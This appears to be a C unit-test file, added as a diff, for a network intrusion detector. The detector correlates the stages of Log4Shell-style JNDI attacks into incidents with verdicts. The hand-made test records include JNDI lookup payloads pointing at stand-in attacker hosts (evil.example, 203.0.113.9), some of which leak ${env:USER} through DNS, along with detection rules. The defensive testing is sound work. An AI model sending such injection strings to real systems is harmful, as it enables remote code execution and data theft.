@@ -1,0 +1,443 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+/* cmocka.h wants the four above */
+#include <cmocka.h>
+
+#include "correlate/incident.h"
+#include "channel/fact.h"
+#include "support/sample.h"
+
+#include <stdio.h>
+
+/* Stories made of hand-made records. Host 10.0.0.n is at home, 203.0.113.n is not. */
+
+#define S  UINT64_C(1000000)
+#define T0 (1000 * S)
+
+static const char rules_text[] =
+    "alert ip any any -> any any (msg:\"f\"; jndi.stage; content:\"o\"; sid:1; rev:1;)\n"
+    "alert ip any any -> any any (msg:\"v\"; jndi.verdict; content:\"vulnerable\"; sid:2; rev:1;)\n"
+    "alert ip any any -> any any (msg:\"d\"; jndi.verdict; content:\"delivered\"; sid:3; rev:1;)\n"
+    "alert ip any any -> any any (msg:\"c\"; jndi.verdict; content:\"compromised\"; sid:4; rev:1;)\n";
+
+struct setting {
+    struct config *config;
+    struct ruleset *rules;
+    struct correlate *correlate;
+    char told[1024]; /* "v10.0.0.1 d10.0.0.1 ": each alert about an incident: verdict, victim */
+    uint64_t id, origin;
+    unsigned n_leaks;
+    bool finding_has_incident;
+};
+
+static void note(void *arg, const struct alert *a)
+{
+    struct setting *t = arg;
+    char victim[ADDR_TEXT];
+    size_t len = strlen(t->told);
+
+    if (!a->story) {
+        t->finding_has_incident = a->incident != NULL;
+        return;
+    }
+    assert_non_null(a->incident);
+    addr_print(&a->incident->victim, victim);
+    snprintf(t->told + len, sizeof t->told - len, "%c%s ", verdict_name(a->verdict)[0], victim + 7);
+    t->id = a->incident->id;
+    t->origin = a->incident->origin;
+    t->n_leaks = 0;
+    for (const struct leak *l = a->incident->leaks; l; l = l->next)
+        t->n_leaks++;
+}
+
+static int setup(void **state)
+{
+    static struct setting t;
+    struct complaint why = {{0}};
+
+    count_reset();
+    t = (struct setting){.config = config_new()};
+    if (!t.config || !config_set(t.config, "correlate.memcap=1mb", &why))
+        return -1;
+    t.rules = ruleset_new(t.config, &why);
+    if (!t.rules || !ruleset_add_text(t.rules, "test.rules", BYTES_LIT(rules_text), &why)) {
+        print_error("%s\n", why.text);
+        return -1;
+    }
+    t.correlate = correlate_new(t.config, t.rules, note, &t);
+    *state = &t;
+    return t.correlate ? 0 : -1;
+}
+
+static int teardown(void **state)
+{
+    struct setting *t = *state;
+
+    correlate_free(t->correlate);
+    ruleset_free(t->rules);
+    config_free(t->config);
+    count_reset();
+    return 0;
+}
+
+static void restart(struct setting *t)
+{
+    correlate_free(t->correlate);
+    t->correlate = correlate_new(t->config, t->rules, note, t);
+    t->told[0] = '\0';
+    count_reset();
+}
+
+static struct addr home(uint8_t n)
+{
+    const uint8_t b[4] = {10, 0, 0, n};
+
+    return addr_v4(b);
+}
+
+static struct addr out(uint8_t n)
+{
+    const uint8_t b[4] = {203, 0, 113, n};
+
+    return addr_v4(b);
+}
+
+/* One finding; ids and values by pairs, ended by ATTR_N. side: who sends, 0 being the client. */
+static void finding(struct setting *t, struct addr client, struct addr server, uint16_t port, unsigned side,
+                    const char *app, uint64_t ts_us, const char *stage, ...)
+{
+    struct sample s;
+    va_list list;
+    int id;
+
+    sample_lookup(&s);
+    s.rule.sid = 1;
+    s.flow.end[0].addr = client;
+    s.flow.end[1].addr = server;
+    s.flow.end[1].port = port;
+    s.flow.client = 0;
+    s.chunk.side = side;
+    s.chunk.ts_us = ts_us;
+    s.field.app_proto = app;
+    s.field.http = NULL;
+    s.attrs.n = 0;
+    attrs_add(&s.attrs, ATTR_JNDI_STAGE, bytes_str(stage));
+    va_start(list, stage);
+    while ((id = va_arg(list, int)) != ATTR_N)
+        attrs_add(&s.attrs, (enum attr_id)id, bytes_str(va_arg(list, const char *)));
+    va_end(list);
+    assert_true(sample_seal(&s, STAGE_OTHER));
+    correlate_clock(t->correlate, ts_us);
+    correlate_record(t->correlate, &s.record);
+    sample_drop(&s);
+}
+
+static void lookup(struct setting *t, uint8_t victim, const char *name, uint64_t ts_us)
+{
+    finding(t, out(200), home(victim), 8080, 0, "http", ts_us, "lookup", ATTR_JNDI_NAME, name, ATTR_N);
+}
+
+static void callback(struct setting *t, uint8_t victim, uint8_t server, const char *dn, uint64_t ts_us)
+{
+    finding(t, home(victim), out(server), 1389, 0, "ldap", ts_us, "callback", ATTR_LDAP_CLIENT, "jndi",
+            ATTR_LDAP_REQUEST_DN, dn, ATTR_N);
+}
+
+static void reference(struct setting *t, uint8_t victim, uint8_t server, const char *codebase, uint64_t ts_us)
+{
+    finding(t, home(victim), out(server), 1389, 1, "ldap", ts_us, "reference", ATTR_JAVA_FACTORY, "Exploit",
+            ATTR_JAVA_CODEBASE, codebase, ATTR_N);
+}
+
+static void class_fetch(struct setting *t, uint8_t victim, uint8_t server, const char *java, uint64_t ts_us)
+{
+    finding(t, home(victim), out(server), 8888, 1, "http", ts_us, "class_delivery", ATTR_JAVA_CLIENT, java,
+            ATTR_N);
+}
+
+static void connection(struct setting *t, uint8_t client, struct addr server, uint16_t port,
+                       enum connection_outcome outcome, const char *app, uint64_t ts_us)
+{
+    struct fact_connection c = {.client = home(client),
+                                .server = server,
+                                .client_port = 40000,
+                                .server_port = port,
+                                .proto = PROTO_TCP,
+                                .outcome = (uint8_t)outcome,
+                                .ts_us = ts_us};
+    struct fact f = {.ts_us = ts_us, .packet = 7, .flow_id = ts_us};
+    uint8_t space[FACT_MAX];
+
+    snprintf(c.app_proto, sizeof c.app_proto, "%s", app);
+    fact_put_connection(&f, &c, space);
+    correlate_clock(t->correlate, ts_us);
+    correlate_fact(t->correlate, &f);
+}
+
+static void dns(struct setting *t, uint8_t client, const char *name, struct addr answer, uint64_t ts_us)
+{
+    struct fact_name n = {.client = home(client),
+                          .server = home(53),
+                          .server_port = 53,
+                          .type = 1,
+                          .answered = answer.version != 0,
+                          .n_addrs = answer.version != 0,
+                          .name_len = (uint8_t)strlen(name)};
+    struct fact f = {.ts_us = ts_us, .packet = 8, .flow_id = ts_us};
+    uint8_t space[FACT_MAX];
+
+    n.addrs[0] = answer;
+    snprintf(n.name, sizeof n.name, "%s", name);
+    fact_put_name(&f, &n, space);
+    correlate_clock(t->correlate, ts_us);
+    correlate_fact(t->correlate, &f);
+}
+
+static void told_is(struct setting *t, const char *what)
+{
+    correlate_finish(t->correlate);
+    assert_string_equal(t->told, what);
+    restart(t);
+}
+
+static const struct addr nobody;
+
+static void a_whole_attack_is_one_incident(void **state)
+{
+    struct setting *t = *state;
+
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    assert_true(t->finding_has_incident);
+    callback(t, 1, 9, "a", T0 + S);
+    reference(t, 1, 9, "http://203.0.113.9:8888/", T0 + S);
+    class_fetch(t, 1, 9, "yes", T0 + 2 * S);
+    connection(t, 1, out(9), 4444, CONNECTION_ESTABLISHED, "", T0 + 3 * S);
+    told_is(t, "v1 d1 c1 ");
+}
+
+/* Each order of four sightings whose times stay the same. */
+static void any_order_gives_the_same_verdict(void **state)
+{
+    struct setting *t = *state;
+
+    for (unsigned order = 0; order < 24; order++) {
+        unsigned left[4] = {0, 1, 2, 3}, n = 4, code = order;
+        size_t len;
+
+        while (n > 0) {
+            unsigned at = code % n, what = left[at];
+
+            code /= n;
+            left[at] = left[--n];
+            if (what == 0)
+                lookup(t, 1, "ldap://evil.example:1389/a", T0);
+            else if (what == 1)
+                dns(t, 1, "evil.example", out(9), T0 + S);
+            else if (what == 2)
+                callback(t, 1, 9, "a", T0 + 2 * S);
+            else
+                reference(t, 1, 9, "", T0 + 3 * S); /* no codebase: all of the payload */
+        }
+        correlate_finish(t->correlate);
+        len = strlen(t->told);
+        assert_true(len >= 3);
+        assert_string_equal(t->told + len - 3, "d1 ");
+        assert_true(len <= 9);
+        restart(t);
+    }
+}
+
+static void the_callback_may_be_refused_or_never_answered(void **state)
+{
+    struct setting *t = *state;
+
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
+    told_is(t, "v1 ");
+    lookup(t, 1, "ldap://203.0.113.9/a", T0); /* JNDI's own port */
+    connection(t, 1, out(9), 389, CONNECTION_SILENT, "", T0 + S);
+    told_is(t, "v1 ");
+    lookup(t, 1, "ldaps://203.0.113.9:8443/a", T0);
+    connection(t, 1, out(9), 8443, CONNECTION_TALKED, "tls", T0 + S);
+    told_is(t, "v1 ");
+    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S); /* told before its cause */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    told_is(t, "v1 ");
+    lookup(t, 1, "ldap://evil.example:1389/a", T0);
+    dns(t, 1, "evil.example", nobody, T0 + S); /* asked for, and there is none */
+    told_is(t, "v1 ");
+}
+
+static void what_does_not_promote(void **state)
+{
+    struct setting *t = *state;
+
+    /* Another host visits the server later. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    connection(t, 2, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
+    connection(t, 2, out(9), 1389, CONNECTION_TALKED, "http", T0 + 2 * S);
+    told_is(t, "");
+    /* An analyst on the victim looks at it with wget. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    connection(t, 1, out(9), 1389, CONNECTION_TALKED, "http", T0 + S);
+    told_is(t, "");
+    /* He fetches the class, too. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    class_fetch(t, 1, 9, "no", T0 + S);
+    told_is(t, "");
+    /* A connection that says nothing is no client of JNDI's. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    connection(t, 1, out(9), 1389, CONNECTION_ESTABLISHED, "", T0 + S);
+    told_is(t, "");
+    /* Another port. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    connection(t, 1, out(9), 1390, CONNECTION_REFUSED, "", T0 + S);
+    told_is(t, "");
+    /* A habit: it called there before. */
+    connection(t, 1, out(9), 443, CONNECTION_REFUSED, "", T0 - S);
+    lookup(t, 1, "ldap://203.0.113.9:443/a", T0);
+    connection(t, 1, out(9), 443, CONNECTION_REFUSED, "", T0 + S);
+    told_is(t, "");
+    /* It called before, and not since. */
+    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 - S);
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    told_is(t, "");
+    /* The scanner's own machine is at home, and calls its own server. */
+    finding(t, home(5), home(1), 8080, 0, "http", T0, "lookup", ATTR_JNDI_NAME, "ldap://203.0.113.9:1389/a",
+            ATTR_N);
+    connection(t, 5, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
+    told_is(t, "");
+}
+
+static void popular_places_and_scans_do_not_promote(void **state)
+{
+    struct setting *t = *state;
+
+    for (uint8_t n = 11; n < 14; n++)
+        connection(t, n, out(9), 443, CONNECTION_SILENT, "", T0 - S);
+    lookup(t, 1, "ldap://203.0.113.9:443/a", T0);
+    connection(t, 1, out(9), 443, CONNECTION_SILENT, "", T0 + S);
+    told_is(t, "");
+    for (uint8_t n = 11; n < 14; n++)
+        dns(t, n, "cdn.example.net", nobody, T0 - S);
+    lookup(t, 1, "ldap://cdn.example.net/a", T0);
+    dns(t, 1, "cdn.example.net", nobody, T0 + S);
+    told_is(t, "");
+    /* The port that the payload names is one of many. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    for (uint16_t port = 1380; port < 1400; port++)
+        connection(t, 1, out(9), port, CONNECTION_REFUSED, "", T0 + S + port);
+    told_is(t, "");
+    assert_int_equal(counters[COUNT_CORRELATE_UNRELATED], 0); /* counted before the restart */
+}
+
+static void a_callback_without_its_lookup_is_a_story_too(void **state)
+{
+    struct setting *t = *state;
+
+    callback(t, 1, 9, "a", T0);
+    reference(t, 1, 9, "http://203.0.113.9:8888/", T0);
+    class_fetch(t, 1, 9, "yes", T0 + S);
+    told_is(t, "v1 d1 ");
+    finding(t, home(1), home(9), 1389, 0, "ldap", T0, "callback", ATTR_LDAP_CLIENT, "jndi", ATTR_N);
+    told_is(t, ""); /* a directory at home */
+    class_fetch(t, 1, 9, "yes", T0);
+    told_is(t, ""); /* what an application's class loader does, byte for byte */
+    finding(t, out(9), home(1), 1389, 0, "ldap", T0, "callback", ATTR_LDAP_CLIENT, "jndi", ATTR_N);
+    told_is(t, ""); /* somebody else's victim */
+}
+
+static void a_second_victim_is_linked_to_the_first(void **state)
+{
+    struct setting *t = *state;
+
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    callback(t, 2, 9, "a", T0 + S);
+    assert_string_equal(t->told, "v2 ");
+    assert_true(t->origin != 0 && t->origin != t->id);
+    restart(t);
+    /* The same, with the string seen on its way. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    finding(t, home(1), home(2), 514, 0, "syslog", T0 + S, "lookup", ATTR_JNDI_NAME,
+            "ldap://203.0.113.9:1389/a", ATTR_N);
+    callback(t, 2, 9, "a", T0 + 2 * S);
+    assert_string_equal(t->told, "v2 ");
+    assert_true(t->origin != 0 && t->origin != t->id);
+    restart(t);
+}
+
+static void values_come_back_in_the_callback(void **state)
+{
+    struct setting *t = *state;
+
+    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
+    callback(t, 1, 9, "tomcat", T0 + S);
+    assert_int_equal(t->n_leaks, 1);
+    told_is(t, "v1 ");
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S);
+    assert_int_equal(t->n_leaks, 1);
+    told_is(t, "v1 ");
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    dns(t, 53, "tomcat.x.evil.example", nobody, T0 + S); /* its resolver asks */
+    assert_int_equal(t->n_leaks, 1);
+    told_is(t, "v1 ");
+    dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S); /* told before its cause */
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    assert_int_equal(t->n_leaks, 1);
+    told_is(t, "v1 ");
+    lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
+    dns(t, 1, "tomcat.y.evil.example", nobody, T0 + S);
+    told_is(t, "");
+}
+
+static void a_window_ends(void **state)
+{
+    struct setting *t = *state;
+    struct complaint why = {{0}};
+
+    assert_true(config_set(t->config, "correlate.window=60s", &why));
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0);
+    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + 61 * S);
+    told_is(t, "");
+}
+
+static void memory_stays_below_its_ceiling(void **state)
+{
+    struct setting *t = *state;
+    char name[64];
+
+    for (unsigned n = 0; n < 20000; n++) {
+        snprintf(name, sizeof name, "ldap://203.0.113.%u:%u/a", 1 + n % 250, 1024 + n % 60000);
+        lookup(t, (uint8_t)(1 + n % 200), name, T0 + n);
+    }
+    assert_true(counters[COUNT_CORRELATE_EVICTED] > 10000);
+    /* The latest is there still. */
+    lookup(t, 1, "ldap://203.0.113.9:1389/a", T0 + S);
+    callback(t, 1, 9, "a", T0 + 2 * S);
+    assert_string_equal(t->told, "v1 ");
+    restart(t);
+}
+
+#define with_story(test) cmocka_unit_test_setup_teardown(test, setup, teardown)
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        with_story(a_whole_attack_is_one_incident),
+        with_story(any_order_gives_the_same_verdict),
+        with_story(the_callback_may_be_refused_or_never_answered),
+        with_story(what_does_not_promote),
+        with_story(popular_places_and_scans_do_not_promote),
+        with_story(a_callback_without_its_lookup_is_a_story_too),
+        with_story(a_second_victim_is_linked_to_the_first),
+        with_story(values_come_back_in_the_callback),
+        with_story(a_window_ends),
+        with_story(memory_stays_below_its_ceiling),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
